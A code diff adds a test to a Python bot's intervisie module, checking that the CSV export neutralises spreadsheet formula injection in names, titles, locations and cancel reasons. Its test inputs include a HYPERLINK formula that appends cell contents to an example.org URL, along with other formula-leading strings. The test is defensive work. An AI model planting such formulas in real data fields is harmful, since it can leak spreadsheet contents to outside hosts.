@@ -18,10 +18,11 @@ from intervisie_world import (
     build_network,
     plan,
 )
-from sqlalchemy import select
+from sqlalchemy import select, update
 
 from vcpbot.db import Database
-from vcpbot.db.intervisie import IntervisieInvitation, IntervisieReminder
+from vcpbot.db.intervisie import IntervisieInvitation, IntervisieReminder, IntervisieSession
+from vcpbot.db.network import Association, Vcp
 from vcpbot.errors import Conflict, InvalidInput
 from vcpbot.services import intervisie
 from vcpbot.services.intervisie import Invitees, Rsvp
@@ -200,3 +201,48 @@ async def test_recent_sessions_are_the_started_ones_latest_first(world: Database
         assert await intervisie.recent_sessions(session, now=NOW) == []
         views = await intervisie.recent_sessions(session, now=AFTER)
     assert [v.id for v in views] == [second, first]
+
+
+# A spreadsheet runs a cell that starts with one of these as a formula.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+FORMULA_NAMES = [
+    '=HYPERLINK("https://example.org/?"&A1,"Open")',
+    "+31 6 12345678",
+    "-1+2",
+    "@SUM(A1:A9)",
+    "\t=1+1",
+    "\r=1+1",
+]
+
+
+def _cells(text: str) -> list[str]:
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+@pytest.mark.parametrize("name", FORMULA_NAMES)
+async def test_no_name_in_the_intervisie_export_can_run_as_a_formula(
+    world: Database, name: str
+) -> None:
+    """A VCP's name, an association's, a session's title, place and reason for
+    cancelling: whatever they start with, the coordinator's spreadsheet shows text."""
+    first, _ = await _two_sessions(world)
+    async with world.sessions.begin() as session:
+        await intervisie.cancel_session(session, session_id=first, reason=name, now=NOW)
+        # As stored, whichever way it got there (the commands tidy spaces away).
+        await session.execute(
+            update(IntervisieSession).values(title=name, location=name, cancel_reason=name)
+        )
+        await session.execute(update(Vcp).values(display_name=name))
+        await session.execute(update(Association).values(name=name))
+    async with world.sessions.begin() as session:
+        export = await intervisie.export_csv(session, start=TERM[0], end=TERM[1])
+    for text in (export.sessions_csv, export.attendance_csv):
+        cells = _cells(text)
+        assert "'" + name in cells
+        assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
+    sessions = list(csv.DictReader(io.StringIO(export.sessions_csv)))
+    assert {s["title"] for s in sessions} == {"'" + name}
+    assert sessions[0]["location"] == sessions[0]["cancel_reason"] == "'" + name
+    attendance = list(csv.DictReader(io.StringIO(export.attendance_csv)))
+    assert {r["name"] for r in attendance if r["user_id"]} == {"'" + name}
+    assert {r["association"] for r in attendance if r["user_id"]} == {"'" + name}
